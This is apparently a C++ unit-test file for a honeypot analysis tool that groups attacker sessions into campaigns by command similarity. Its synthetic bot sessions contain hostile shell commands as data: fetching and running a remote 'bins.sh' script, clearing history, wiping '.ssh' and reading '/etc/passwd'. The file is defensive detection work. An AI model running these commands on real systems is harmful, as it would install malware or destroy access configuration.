#include <gtest/gtest.h>

#include <chrono>
#include <map>
#include <numeric>
#include <set>

#include "../../core/src/analysis/factories.hpp"
#include "synthetic_sessions.hpp"

namespace cb::analyses {
std::vector<std::uint32_t> campaign_components(const std::vector<std::vector<std::uint32_t>>& sets);
}

using namespace cbtest;

namespace {

const cb::Table& table(const cb::Findings& f, std::string_view name) {
    const cb::Table* t = f.table(name);
    EXPECT_NE(t, nullptr) << name;
    static const cb::Table empty;
    return t ? *t : empty;
}

std::string text(const cb::Cell& c) { return std::get<std::string>(c); }
std::int64_t num(const cb::Cell& c) { return std::get<std::int64_t>(c); }

Spec bot(const std::string& session, const std::string& sensor, const std::string& ip, const std::string& c2) {
    Spec s;
    s.session = session;
    s.sensor = sensor;
    s.src_ip = ip;
    s.logins = {{"root", "admin123", true}};
    s.commands = {"cd /tmp || cd /var/run",
                  "wget http://" + c2 + "/bins.sh",
                  "chmod 777 bins.sh",
                  "sh bins.sh",
                  "uname -a",
                  "cat /proc/cpuinfo | grep name | wc -l"};
    s.downloads = {{"http://" + c2 + "/bins.sh", std::string(64, 'a')}};
    return s;
}

Spec unrelated(const std::string& session, const std::string& ip) {
    Spec s;
    s.session = session;
    s.src_ip = ip;
    s.logins = {{"admin", "admin", true}};
    s.commands = {"echo -e \"\\x6F\\x6B\"", "cat /etc/passwd", "ps aux | grep miner", "free -m", "uname -a"};
    return s;
}

std::map<std::string, std::string> campaign_by_session(const cb::Findings& f) {
    const cb::Table& sc = table(f, "session_campaigns");
    std::map<std::string, std::string> m;
    for (const auto& r : sc.rows)
        m[text(r[col(sc, "sensor")]) + "/" + text(r[col(sc, "session")])] = text(r[col(sc, "campaign")]);
    return m;
}

}  // namespace

TEST(Campaigns, BotsThatDifferOnlyInAddressesShareACampaignAcrossSensors) {
    ASSERT_EQ(cb::command_template("wget http://1.2.3.4/bins.sh"),
              cb::command_template("wget http://198.51.100.7/bins.sh"));
    std::vector<Spec> specs = {bot("a1", "s1", "1.1.1.1", "1.2.3.4"), bot("a2", "s2", "2.2.2.2", "198.51.100.7"),
                               bot("a3", "s3", "3.3.3.3", "203.0.113.9"), unrelated("b1", "4.4.4.4"),
                               unrelated("b2", "5.5.5.5")};
    // A variant with one more command (Jaccard 6/7) joins the bots.
    Spec v = bot("a4", "s1", "6.6.6.6", "1.2.3.4");
    v.commands.push_back("history -c");
    specs.push_back(v);
    // Shares only `uname -a` (and no second template) with the bots: its own campaign.
    Spec lone;
    lone.session = "c1";
    lone.src_ip = "7.7.7.7";
    lone.commands = {"uname -a", "nproc"};
    specs.push_back(lone);
    // No commands: no campaign.
    Spec quiet;
    quiet.session = "d1";
    quiet.logins = {{"root", "x", false}};
    specs.push_back(quiet);

    Corpus c = build(specs);
    ASSERT_EQ(c.sessions.size(), specs.size());
    const cb::Findings f = run_all(cb::analyses::make_campaigns, c.sessions);
    const cb::Table& t = table(f, "campaigns");
    ASSERT_EQ(t.rows.size(), 3u);
    // Sorted by sessions: the bots (4), the unrelated script (2), the lone one (1).
    const auto& bots = t.rows[0];
    EXPECT_EQ(num(bots[col(t, "sessions")]), 4);
    EXPECT_EQ(num(bots[col(t, "src_ips")]), 4);
    EXPECT_EQ(num(bots[col(t, "sensors")]), 3);
    EXPECT_EQ(num(bots[col(t, "template_sets")]), 2);
    EXPECT_EQ(num(bots[col(t, "templates")]), 7);
    EXPECT_EQ(text(bots[col(t, "top_credentials")]), "root/admin123:4");
    EXPECT_EQ(text(bots[col(t, "downloads")]),
              "http://1.2.3.4/bins.sh:2;http://198.51.100.7/bins.sh:1;http://203.0.113.9/bins.sh:1");
    EXPECT_EQ(text(bots[col(t, "shasums")]), std::string(64, 'a') + ":4");
    // Example commands: the most common set's smallest session (s1/a1), raw, in order.
    EXPECT_EQ(text(bots[col(t, "example_commands")]).rfind("cd /tmp || cd /var/run\nwget http://1.2.3.4/bins.sh\n", 0),
              0u);
    EXPECT_EQ(text(bots[col(t, "example_sessions")]), "s1/a1\ns1/a4\ns2/a2");
    EXPECT_EQ(text(bots[col(t, "first_seen")]), "2024-01-01T00:00:00.000000Z");
    EXPECT_EQ(num(t.rows[1][col(t, "sessions")]), 2);
    EXPECT_EQ(num(t.rows[2][col(t, "sessions")]), 1);
    EXPECT_NE(text(t.rows[0][0]), text(t.rows[1][0]));
    EXPECT_NE(text(t.rows[1][0]), text(t.rows[2][0]));
    EXPECT_EQ(text(bots[0]).size(), 9u);
    EXPECT_EQ(text(bots[0])[0], 'C');

    const auto by = campaign_by_session(f);
    EXPECT_EQ(by.size(), 7u);  // every session with commands, not s1/d1
    EXPECT_EQ(by.count("s1/d1"), 0u);
    EXPECT_EQ(by.at("s1/a1"), by.at("s2/a2"));
    EXPECT_EQ(by.at("s1/a1"), by.at("s1/a4"));
    EXPECT_EQ(by.at("s1/b1"), by.at("s1/b2"));
    EXPECT_NE(by.at("s1/a1"), by.at("s1/b1"));
    EXPECT_NE(by.at("s1/a1"), by.at("s1/c1"));

    // Published for later analyses: one entry per distinct template set.
    EXPECT_EQ(f.campaign_of_set.size(), 4u);
    FactsBuilder fb;
    for (const auto& s : c.sessions) {
        const auto& facts = fb(s);
        if (facts.commands.empty()) continue;
        EXPECT_EQ(f.campaign_of_set.at(cb::template_set_key(facts)), by.at(facts.id));
    }
    EXPECT_EQ(f.campaign_count.value_or(0), 3u);
}

namespace {

// Families of scripts with random variants: dropped commands, an extra command, new addresses.
std::vector<Spec> families(std::size_t n, std::uint64_t seed) {
    Rng r(seed);
    const std::vector<std::vector<std::string>> scripts = {
        {"uname -a", "cat /proc/cpuinfo", "free -m", "w", "crontab -l", "ls -lh $(which ls)", "which ls", "top"},
        {"enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox ABCD", "cd /dev/shm; cat .s"},
        {"cd ~; chattr -ia .ssh; lockr -ia .ssh", "cd ~ && rm -rf .ssh && mkdir .ssh"},
        {"echo ok", "id", "cat /etc/issue", "ifconfig", "netstat -an", "ps -ef"},
        {"/ip cloud print", "ifconfig", "uname -a", "cat /proc/cpuinfo"}};
    std::vector<Spec> out;
    for (std::size_t i = 0; i < n; ++i) {
        Spec s;
        s.session = r.hex(12);
        s.sensor = "sensor" + std::to_string(r.below(4));
        s.src_ip = r.ip();
        s.start_s = static_cast<double>(r.below(86400 * 30));
        if (r.below(5) == 0) {  // brute force only
            s.logins = {{"root", r.hex(6), false}};
            out.push_back(s);
            continue;
        }
        s.logins = {{"root", r.hex(3), true}};
        const auto& base = scripts[r.below(scripts.size())];
        for (const auto& c : base)
            if (r.below(8) != 0) s.commands.push_back(c);
        if (r.below(3) == 0) s.commands.push_back("wget http://" + r.ip() + "/x");
        if (r.below(6) == 0) s.commands.push_back("echo " + r.hex(8 + r.below(4)) + " > /tmp/.x");
        if (s.commands.empty()) s.commands.push_back("exit");
        out.push_back(s);
    }
    return out;
}

std::string dump(const cb::Findings& f) {
    std::string s = cb::to_csv(table(f, "campaigns")) + cb::to_csv(table(f, "session_campaigns"));
    for (const auto& [k, v] : f.campaign_of_set) s += k + "=>" + v + "\n";
    s += cb::report_facts_json(f);
    return s;
}

}  // namespace

TEST(Campaigns, SameBytesForAnyOrderAndAnySplit) {
    Corpus c = build(families(600, 7));
    std::vector<const cb::Session*> ptrs;
    for (const auto& s : c.sessions) ptrs.push_back(&s);
    const std::string whole = dump(run_split(cb::analyses::make_campaigns, ptrs, {}, 1));
    EXPECT_GT(table(run_split(cb::analyses::make_campaigns, ptrs, {}, 1), "campaigns").rows.size(), 3u);
    Rng r(99);
    for (int round = 0; round < 6; ++round) {
        for (std::size_t i = ptrs.size(); i > 1; --i) std::swap(ptrs[i - 1], ptrs[r.below(i)]);
        const unsigned parts = 1 + static_cast<unsigned>(round % 4);
        std::vector<unsigned> which(ptrs.size());
        for (auto& w : which) w = static_cast<unsigned>(r.below(parts));
        EXPECT_EQ(dump(run_split(cb::analyses::make_campaigns, ptrs, which, parts, {}, round % 2 == 1)), whole)
            << "round " << round;
    }
}

TEST(Campaigns, SavedStateLoadsAndDamagedStateIsRefused) {
    Corpus c = build(families(200, 3));
    auto a = cb::analyses::make_campaigns();
    FactsBuilder fb;
    for (const auto& s : c.sessions) a->add(fb(s));
    std::string bytes;
    a->save(bytes);
    ASSERT_GT(bytes.size(), 100u);
    EXPECT_TRUE(cb::analyses::make_campaigns()->load(bytes));
    for (std::size_t cut : {bytes.size() - 1, bytes.size() / 2, std::size_t{3}})
        EXPECT_FALSE(cb::analyses::make_campaigns()->load(std::string_view(bytes).substr(0, cut))) << cut;
}

TEST(Campaigns, ThroughRunAnalysesWithThreads) {
    Corpus c = build(families(4200, 11));
    cb::AnalysisConfig cfg;
    const cb::Findings one = cb::run_analyses(c.sessions, {}, cfg, 1);
    const cb::Findings four = cb::run_analyses(c.sessions, {}, cfg, 4);
    ASSERT_NE(one.table("campaigns"), nullptr);
    EXPECT_EQ(cb::to_csv(*one.table("campaigns")), cb::to_csv(*four.table("campaigns")));
    EXPECT_EQ(cb::to_csv(*one.table("session_campaigns")), cb::to_csv(*four.table("session_campaigns")));
    EXPECT_EQ(one.campaign_of_set, four.campaign_of_set);
}

namespace {

std::vector<std::uint32_t> brute_force(const std::vector<std::vector<std::uint32_t>>& sets) {
    std::vector<std::uint32_t> p(sets.size());
    std::iota(p.begin(), p.end(), 0u);
    auto find = [&](std::uint32_t x) {
        while (p[x] != x) x = p[x] = p[p[x]];
        return x;
    };
    for (std::size_t i = 0; i < sets.size(); ++i)
        for (std::size_t j = i + 1; j < sets.size(); ++j) {
            std::vector<std::uint32_t> in;
            std::set_intersection(sets[i].begin(), sets[i].end(), sets[j].begin(), sets[j].end(),
                                  std::back_inserter(in));
            const std::size_t o = in.size(), u = sets[i].size() + sets[j].size() - o;
            if (o >= 2 && 2 * o >= u) {
                auto a = find(static_cast<std::uint32_t>(i)), b = find(static_cast<std::uint32_t>(j));
                if (a > b) std::swap(a, b);
                p[b] = a;
            }
        }
    std::vector<std::uint32_t> root(sets.size());
    for (std::uint32_t i = 0; i < sets.size(); ++i) root[i] = find(i);
    return root;
}

}  // namespace

TEST(Campaigns, SimilarityJoinIsExact) {
    // Random sets around a few "scripts", with noise, sized 1..14: the prefix-filter join must
    // find exactly the components that comparing every pair finds (no LSH-style misses).
    for (std::uint64_t seed = 1; seed <= 20; ++seed) {
        Rng r(seed);
        std::vector<std::vector<std::uint32_t>> bases(6);
        for (auto& b : bases)
            for (std::size_t k = 0, n = 2 + r.below(10); k < n; ++k)
                b.push_back(static_cast<std::uint32_t>(r.below(60)));
        std::set<std::vector<std::uint32_t>> uniq;
        for (int i = 0; i < 300; ++i) {
            std::set<std::uint32_t> s;
            for (auto t : bases[r.below(bases.size())])
                if (r.below(4) != 0) s.insert(t);
            for (std::size_t k = r.below(4); k > 0; --k) s.insert(static_cast<std::uint32_t>(r.below(80)));
            if (!s.empty()) uniq.emplace(s.begin(), s.end());
        }
        const std::vector<std::vector<std::uint32_t>> sets(uniq.begin(), uniq.end());
        EXPECT_EQ(cb::analyses::campaign_components(sets), brute_force(sets)) << "seed " << seed;
    }
}

TEST(Campaigns, BigVariantFamilyStaysFast) {
    // 60,000 variants of one 12-command script, each with one command of its own (say an
    // unnormalised random password): all pairs are similar, which would make candidate
    // verification quadratic without grouping the inverted lists by component.
    std::vector<std::vector<std::uint32_t>> sets;
    const std::uint32_t n = 60000;
    for (std::uint32_t i = 0; i < n; ++i) {
        std::vector<std::uint32_t> s;
        for (std::uint32_t t = 0; t < 12; ++t) s.push_back(t);
        s.push_back(100 + i);
        sets.push_back(s);
    }
    // Plus 60,000 unrelated pairs of rare templates.
    for (std::uint32_t i = 0; i < n; ++i) sets.push_back({200000 + 2 * i, 200000 + 2 * i + 1});
    const auto t0 = std::chrono::steady_clock::now();
    const auto root = cb::analyses::campaign_components(sets);
    const double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
    for (std::uint32_t i = 0; i < n; ++i) ASSERT_EQ(root[i], 0u);
    for (std::uint32_t i = n; i < 2 * n; ++i) ASSERT_EQ(root[i], i);
    EXPECT_LT(secs, 5.0);
}
